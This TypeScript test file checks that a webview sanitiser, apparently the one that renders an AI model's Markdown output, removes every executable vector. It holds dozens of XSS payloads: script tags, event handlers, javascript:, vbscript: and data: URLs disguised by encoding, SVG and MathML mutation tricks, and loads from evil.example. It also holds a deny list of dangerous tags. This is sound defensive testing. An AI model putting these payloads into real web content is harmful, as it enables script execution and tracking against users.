import { strict as assert } from "node:assert";
import { markdownToSafeHtml } from "../../webview-ui/markdown.js";
import { createSanitizer } from "../../webview-ui/sanitize.js";
import { domWindow } from "../helpers/dom-window.js";

const window = domWindow();
const sanitizer = createSanitizer(window);

const DANGEROUS_TAGS = new Set([
  "SCRIPT",
  "STYLE",
  "IFRAME",
  "FRAME",
  "OBJECT",
  "EMBED",
  "FORM",
  "INPUT",
  "BUTTON",
  "TEXTAREA",
  "SELECT",
  "IMG",
  "SVG",
  "MATH",
  "LINK",
  "META",
  "BASE",
  "VIDEO",
  "AUDIO",
  "SOURCE",
  "TEMPLATE",
  "NOSCRIPT",
]);
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "background", "poster", "data"]);

/**
 * Every way the HTML could run code or load something once in the DOM: a dangerous element (checked by local name,
 * so namespaced SVG/MathML elements count), any on* handler, style, target, srcdoc, and any URL that is not
 * http(s) or mailto after the browser has decoded entities and whitespace.
 */
function executableVectors(html: string): string[] {
  const container = window.document.createElement("div");
  container.innerHTML = html;
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    if (DANGEROUS_TAGS.has(element.localName.toUpperCase())) found.push(`<${element.localName}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith("on")) found.push(`${name} handler`);
      if (name === "style" || name === "target" || name === "srcdoc" || name === "srcset")
        found.push(`${name} attribute`);
      if (URL_ATTRIBUTES.has(name) && !/^(?:https?|mailto):/i.test(attribute.value.replace(/[\u0000-\u0020]/g, "")))
        found.push(`${name}=${attribute.value}`);
    }
  }
  return found;
}

function assertInert(html: string, payload: string): void {
  assert.deepEqual(executableVectors(html), [], `payload ${JSON.stringify(payload)} rendered as ${html}`);
}

const HTML_PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<div onclick="alert(1)" onmouseover=alert(2)>hover</div>`,
  `<p ONCLICK="alert(1)">mixed case handler</p>`,
  `<a href="javascript:alert(1)">js</a>`,
  `<a href="JaVaScRiPt:alert(1)">mixed case</a>`,
  `<a href=" javascript:alert(1)">leading space</a>`,
  `<a href="java\tscript:alert(1)">tab inside</a>`,
  `<a href="javascript&colon;alert(1)">named entity colon</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>`,
  `<a href="&#x6A;avascript:alert(1)">hex entity</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="VBScript:msgbox(1)">vb mixed case</a>`,
  `<a href="https://example.com" target="_blank">target</a>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg onload=alert(1)><circle r=10 /></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<form><button formaction="javascript:alert(1)">go</button></form>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<style>body{background:url(https://evil.example/track)}</style>`,
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<a href="https://ok.example" onclick="alert(1)">ok but handler</a>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<video><source onerror="alert(1)"></video>`,
];

describe("webview sanitiser", () => {
  it("the checker itself flags every payload that would be live without sanitising", () => {
    // Comments and CDATA are inert as written; everything else must trip the checker, or the tests below prove nothing.
    const live = HTML_PAYLOADS.filter((payload) => !payload.startsWith("<!"));
    assert.deepEqual(
      live.filter((payload) => executableVectors(payload).length === 0),
      [],
    );
  });

  for (const payload of HTML_PAYLOADS) {
    it(`leaves nothing executable in ${payload.slice(0, 60)}`, () => {
      assertInert(sanitizer.toHtml(payload), payload);
      // The same payload written by the model inside Markdown (raw HTML is allowed through, then sanitised).
      assertInert(markdownToSafeHtml(`Some text\n\n${payload}\n\nmore`, sanitizer), payload);
    });
  }

  const MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <a href="javascript:alert(1)">x</a> |',
  ];
  for (const payload of MARKDOWN_PAYLOADS) {
    it(`renders Markdown ${JSON.stringify(payload).slice(0, 60)} without an executable vector`, () => {
      assertInert(markdownToSafeHtml(payload, sanitizer), payload);
    });
  }

  it("keeps web and mail links, without a target", () => {
    const html = markdownToSafeHtml("[docs](https://example.com/a?b=1) and [mail](mailto:a@example.com)", sanitizer);
    const container = window.document.createElement("div");
    container.innerHTML = html;
    const links = [...container.querySelectorAll("a")].map((a) => [
      a.textContent,
      a.getAttribute("href"),
      a.getAttribute("target"),
    ]);
    assert.deepEqual(links, [
      ["docs", "https://example.com/a?b=1", null],
      ["mail", "mailto:a@example.com", null],
    ]);
  });

  it("drops a dangerous link's address but keeps its text", () => {
    const container = window.document.createElement("div");
    container.innerHTML = markdownToSafeHtml("[click me](javascript:alert(1))", sanitizer);
    assert.equal(container.textContent?.trim(), "click me");
    assert.equal(container.querySelector("a[href]"), null);
  });

  it("shows code inside fences as text, highlighted, never as markup", () => {
    const container = window.document.createElement("div");
    container.innerHTML = markdownToSafeHtml("```ts\nconst a: string = '<b>x</b>';\n```", sanitizer);
    const code = container.querySelector("pre code")!;
    assert.equal(code.textContent, "const a: string = '<b>x</b>';");
    assert.ok(code.classList.contains("language-ts"));
    assert.ok(code.querySelector(".hljs-keyword"), "keywords are highlighted");
    assert.equal(code.querySelector("b"), null);
  });

  it("strips class names the model could use to imitate the view's own controls", () => {
    const html = sanitizer.toHtml(`<div class="tool-card permission codicon hljs-string">x</div>`);
    assert.match(html, /class="hljs-string"/);
    assert.doesNotMatch(html, /tool-card|permission|codicon/);
  });

  it("drops data-* and aria-* attributes the model could use to mislabel content", () => {
    assert.equal(sanitizer.toHtml(`<div data-x="1" aria-label="Approve">attrs</div>`), "<div>attrs</div>");
  });

  it("renders a task list without form inputs", () => {
    const html = markdownToSafeHtml("- [x] done\n- [ ] todo", sanitizer);
    assert.doesNotMatch(html, /<input/);
    assert.match(html, /☑ done/);
    assert.match(html, /☐ todo/);
  });
});
